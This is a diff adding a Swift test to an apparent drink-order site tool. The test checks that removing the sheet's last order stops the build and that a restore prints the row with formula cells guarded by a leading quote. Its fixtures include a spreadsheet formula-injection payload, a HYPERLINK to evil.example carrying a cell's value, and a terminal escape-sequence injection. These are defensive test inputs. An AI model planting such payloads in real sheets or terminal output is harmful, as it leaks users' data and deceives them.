@@ -96,4 +96,25 @@ import Testing
         let deleted = DeletedOrders(headers: ["id", "orderer", "note", "editCode"], columns: ["id", "orderer", "note"], records: [record])
         #expect(deleted.cells(record).map(TerminalEscaper.escape) == ["1", "Amy\\u{1B}]0;pwned\\u{7}", "a b", ""])
     }
+
+    /// The sheet's last order deleted (SheetDB then answers `[]`, with no header to read): the row is printed
+    /// whole in the snapshot's columns, and a cell that would run as a formula once pasted into the sheet
+    /// gets a leading `'`, as in orders.csv.
+    @Test func theSheetsLastOrderIsPrintedWholeWithItsFormulaGuarded() throws {
+        let site = try BinaryTests.sampleSite()
+        let orders = site.appendingPathComponent("data/orders.json")
+        var row = try #require(try DataTrustTests.sampleRows(site).first)
+        row["note"] = #"=HYPERLINK("https://evil.example/r?c="&N10,"refund")"#
+        row["size"] = "@L"
+        try JSONSerialization.data(withJSONObject: [row]).write(to: orders)
+        #expect(try TestSupport.run(["build"], in: site, environment: BinaryTests.fixedClock).status == 0)
+        try Data("[]".utf8).write(to: orders)
+        // The only order gone: the guard stops the build, and restore finds it in the snapshot.
+        #expect(try TestSupport.run(["build"], in: site, environment: DataTrustTests.secondRun).status == 65)
+        let result = try TestSupport.run(["restore", "Amy"], in: site, environment: DataTrustTests.secondRun)
+        #expect(result.status == 0, "\(result.stderr)")
+        #expect(!result.stderr.contains("columns: ."), "\(result.stderr)")
+        #expect(result.stderr.contains("columns: id, time, group, orderer, drink, size, sugar, ice, quantity, price, currency, note, paid, editCode."), "\(result.stderr)")
+        #expect(result.stdout == "1\t2026-11-21 09:15:00\t週五下午茶\tAmy\t熟成紅茶\t'@L\t半糖\t少冰\t1\t35\t\t'=HYPERLINK(\"https://evil.example/r?c=\"&N10,\"refund\")\tTRUE\t\n", "\(result.stdout)")
+    }
 }
